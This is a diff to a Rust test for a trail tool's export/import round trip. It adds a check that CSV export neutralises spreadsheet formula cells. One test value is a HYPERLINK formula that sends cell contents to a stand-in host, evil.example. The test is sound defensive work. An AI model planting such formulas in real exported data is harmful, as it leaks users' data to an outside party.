@@ -188,11 +188,18 @@ fn export_then_import_keeps_everything_but_ids_and_hashes() {
         &[],
     );
     emit(d, "bob", "zrh-süd1", "Gerät zrh-süd1 geändert");
+    // Cells a spreadsheet would run: neutralised in CSV, and read back whole.
+    emit(d, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+edge", "@SUM(1)\n+more");
     for file in ["out.ndjson", "out.csv"] {
         ok(d, &["export", "-o", file], &[]);
+        if file.ends_with("csv") {
+            let written = std::fs::read_to_string(d.join(file)).unwrap();
+            assert!(written.contains("\"'=HYPERLINK(") && written.contains(",'+edge,"), "{written}");
+            assert!(written.contains("\"'@SUM(1)\n+more\""), "only a cell's start matters: {written}");
+        }
         let target = Trail::fresh();
         let imported = ok(&target, &["import", d.join(file).to_str().unwrap()], &[]);
-        assert!(imported.contains("imported 2 events"), "{imported}");
+        assert!(imported.contains("imported 3 events"), "{imported}");
         let original = events_json(&ok(d, &["search", "--json"], &[]));
         let copy = events_json(&ok(&target, &["search", "--json"], &[]));
         for (a, b) in original.iter().zip(&copy) {
@@ -204,9 +211,10 @@ fn export_then_import_keeps_everything_but_ids_and_hashes() {
             };
             assert_eq!(strip(a), strip(b), "{file}");
         }
-        assert_eq!(copy[1]["time"], "2025-01-02T03:04:05.678901Z", "import keeps the original time");
-        assert_eq!(copy[1]["attributes"].as_object().unwrap().keys().collect::<Vec<_>>(), ["z", "a"]);
-        assert!(ok(&target, &["verify"], &[]).starts_with("OK: 2 events"));
+        assert_eq!(copy.len(), 3, "{file}");
+        assert_eq!(copy[2]["time"], "2025-01-02T03:04:05.678901Z", "import keeps the original time");
+        assert_eq!(copy[2]["attributes"].as_object().unwrap().keys().collect::<Vec<_>>(), ["z", "a"]);
+        assert!(ok(&target, &["verify"], &[]).starts_with("OK: 3 events"));
     }
 }
 
